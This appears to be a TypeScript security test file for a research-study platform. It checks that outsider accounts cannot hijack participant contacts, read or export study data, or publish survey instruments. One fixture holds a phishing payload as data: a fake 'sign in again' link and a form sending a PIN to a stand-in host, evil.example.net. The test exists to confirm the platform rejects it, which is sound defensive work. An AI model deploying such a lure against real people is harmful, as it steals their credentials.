/**
 * The three attacks of issue #18, scripted as an outsider tried them against
 * the embedded platform, and the victim's data afterwards.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { getContact, setContact } from '../../functions/storage/identities.js';
import { callRoute } from '../support/call-route.js';
import { checkInInstrument } from '../support/fixtures.js';
import { account, studyWithTeam, useMailAndExports, type StudyTeam, type TeamAccount } from '../support/study-team.js';
import { useTestTable } from '../support/test-table.js';

const table = useTestTable();
useMailAndExports();

describe('an account with no part in study B', () => {
  let victim: StudyTeam;
  let attacker: TeamAccount;
  let attackerAnalyst: TeamAccount;

  beforeAll(async () => {
    victim = await studyWithTeam();
    attacker = await account('researcher', 'attacker');
    attackerAnalyst = await account('analyst', 'attacker-analyst');
    await setContact({ studyId: victim.studyId, participantCode: 'C-1', email: 'c-1@example.org', updatedAt: new Date().toISOString() }, victim.cardiffResearcher.userId);
  });

  it('cannot replace a participant’s email, nor reissue their link to it: the contact and the live link are unchanged', async () => {
    const before = await table.scanAll();
    const replaced = await callRoute('PUT', `/api/studies/${victim.studyId}/participants/C-1/contact`, {
      headers: await attacker.headers(),
      body: { email: 'attacker@example.net', reason: 'updated' },
    });
    const reissued = await callRoute('POST', `/api/studies/${victim.studyId}/waves/${victim.waveId}/links`, {
      headers: await attacker.headers(),
      body: { reissue: true, delivery: 'email', participantCodes: ['C-1'], confirmRecentContactChanges: true },
    });

    expect(replaced.status).toBe(404);
    expect(reissued.status).toBe(404);
    expect((await getContact(victim.studyId, 'C-1'))?.email).toBe('c-1@example.org');
    // Refused before anything was read or written: not one item changed.
    expect(await table.scanAll()).toEqual(before);
    const opened = await callRoute('GET', `/api/s/${victim.tokens['C-1']}`);
    expect(opened.status).toBe(200);
  });

  it('reads none of the study: responses, participants, progress, consents, messages, check-ins, members; and cannot export it', async () => {
    const headers = await attacker.headers();
    const reads = await Promise.all(
      [
        `/api/studies/${victim.studyId}/waves/${victim.waveId}/responses`,
        `/api/studies/${victim.studyId}/participants`,
        `/api/studies/${victim.studyId}/progress`,
        `/api/studies/${victim.studyId}/consents`,
        `/api/studies/${victim.studyId}/messages`,
        `/api/studies/${victim.studyId}/check-ins`,
        `/api/studies/${victim.studyId}/members`,
        `/api/studies/${victim.studyId}/participants/C-1/contact`,
      ].map((path) => callRoute('GET', path, { headers })),
    );
    const exported = await callRoute('POST', `/api/studies/${victim.studyId}/exports`, { headers: await attackerAnalyst.headers(), body: {} });
    const listed = await callRoute('GET', '/api/studies', { headers });

    for (const read of reads) expect(read.status).toBe(404);
    expect(exported.status).toBe(404);
    expect(listed.json.studies.map((s: { studyId: string }) => s.studyId)).not.toContain(victim.studyId);
  });

  it('cannot publish an instrument without the author permission, and an author cannot publish a form or a phishing link', async () => {
    const phishing = checkInInstrument({
      id: 'attack-form',
      survey: {
        pages: [
          {
            name: 'p',
            elements: [
              {
                type: 'html',
                name: 'lure',
                html: {
                  en: '<p>Your link expired: <a href="https://evil.example.net/login">sign in again</a></p><form action="https://evil.example.net/steal"><input name="pin"></form>',
                  cy: '<p>Mae eich dolen wedi dod i ben</p>',
                },
              },
              { type: 'rating', name: 'mood', title: { en: 'Mood', cy: 'Hwyliau' }, rateMin: 1, rateMax: 5 },
            ],
          },
        ],
      },
    });
    const { contentHash: _hash, ...file } = phishing;
    const author = await account('researcher', 'author', { instrumentAuthor: true });

    const withoutPermission = await callRoute('PUT', '/api/instruments/attack-form/versions/1.0.0', { headers: await attacker.headers(), body: file });
    const asAuthor = await callRoute('PUT', '/api/instruments/attack-form/versions/1.0.0', { headers: await author.headers(), body: file });

    expect(withoutPermission.status).toBe(403);
    expect(withoutPermission.json.error.code).toBe('not_instrument_author');
    expect(asAuthor.status).toBe(422);
    const paths = (asAuthor.json.error.details as { path: string }[]).map((d) => d.path);
    expect(paths).toContain('survey.pages[0].elements[0].html.en');
    expect((await callRoute('GET', `/api/surveys/attack-form/1.0.0/${phishing.contentHash}`)).status).toBe(404);
  });
});
